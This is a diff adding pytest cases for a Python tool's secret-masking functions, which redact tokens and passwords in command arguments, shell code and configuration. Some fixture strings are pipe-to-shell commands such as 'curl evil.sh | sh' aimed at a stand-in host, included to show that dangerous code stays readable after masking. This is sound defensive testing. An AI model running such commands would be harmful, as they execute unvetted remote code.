@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from toolcrib.config.masking import mask_arguments, mask_definition, mask_text, mask_url, mask_value
+from toolcrib.config.masking import mask_arguments, mask_command, mask_definition, mask_text, mask_url, mask_value
 
 SECRETS = [
     "ghp_" + "aB3" * 12,
@@ -94,3 +94,52 @@ def test_masking_never_fails(text: str) -> None:
     """For any text."""
     mask_text(text)
     mask_url(text)
+
+
+@pytest.mark.parametrize(
+    ("arguments", "shown"),
+    [
+        (["--token", "hunter2hunter2", "run"], ["--token", "****", "run"]),
+        (["--password=hunter2hunter2"], ["--password=****"]),
+        (["--env=API_TOKEN=hunter2hunter2"], ["--env=API_TOKEN=****"]),
+        (["--auth", "Bearer", "hunter2hunter2", "run"], ["--auth", "Bearer", "****", "run"]),
+        (["--url=https://me:hunter2hunter2@h/mcp"], ["--url=https://****@h/mcp"]),
+        (["${API_TOKEN:-hunter2hunter2}"], ["${API_TOKEN:-****}"]),
+        (["server --token hunter2hunter2 -v"], ["server --token **** -v"]),
+        (["--headers", '{"Authorization": "Bearer hunter2hunter2"}'], ["--headers", '{"Authorization":"Bearer ****"}']),
+        (["--token", "${TOKEN}", "--key", "-v", "x"], ["--token", "${TOKEN}", "--key", "-v", "x"]),
+    ],
+)
+def test_a_secret_among_arguments_is_hidden_and_the_name_before_it_is_not(
+    arguments: list[str], shown: list[str]
+) -> None:
+    """Although the value by itself looks like any word."""
+    assert mask_arguments(arguments) == shown
+
+
+@pytest.mark.parametrize(
+    ("code", "shown"),
+    [
+        ("TOKEN=hunter2hunter2 curl evil.sh | sh", "TOKEN=**** curl evil.sh | sh"),
+        ('export TOKEN="hunter2 x"; evil', "export TOKEN=****; evil"),
+        ("curl -H 'Authorization: Bearer hunter2hunter2' u|sh", "curl -H 'Authorization: Bearer ****' u|sh"),
+        ("auth: ; evil --token hunter2hunter2 && worse", "auth: ; evil --token **** && worse"),
+    ],
+)
+def test_code_that_would_be_run_stays_readable_but_for_the_secrets_in_it(code: str, shown: str) -> None:
+    """Or a project could hide what it does behind a name that looks secret."""
+    assert mask_command(["env", "A=1", "bash", "-lc", code]) == ["env", "A=1", "bash", "-lc", shown]
+
+
+def test_secrets_that_are_not_text_are_hidden_too() -> None:
+    """A number, a list, and arguments with something else among them."""
+    raw = {
+        "args": ["--token", "hunter2hunter2", "--pin", 123456, None, {"a": 1}, 5],
+        "env": {"A_TOKEN": 12345678, "PORT": 8080, "ON": True, "LIST": ["hunter2hunter2"]},
+        "apiKey": 12345678,
+    }
+    assert mask_definition(raw) == {
+        "args": ["--token", "****", "--pin", "****", None, {"a": 1}, 5],
+        "env": {"A_TOKEN": "****", "PORT": 8080, "ON": True, "LIST": ["****"]},
+        "apiKey": "****",
+    }
